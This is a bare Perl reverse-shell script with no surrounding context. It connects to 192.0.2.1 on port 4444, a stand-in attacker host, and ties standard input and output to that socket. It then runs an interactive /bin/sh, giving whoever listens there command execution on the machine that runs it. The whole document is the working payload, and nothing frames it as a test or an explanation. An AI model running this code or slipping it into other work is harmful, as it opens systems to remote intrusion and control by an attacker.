šuse IO::Socket;
$s=IO::Socket::INET->new(PeerAddr=>"192.0.2.1:4444");
open(STDIN,"<&",$s);open(STDOUT,">&",$s);
exec "/bin/sh", "-i";
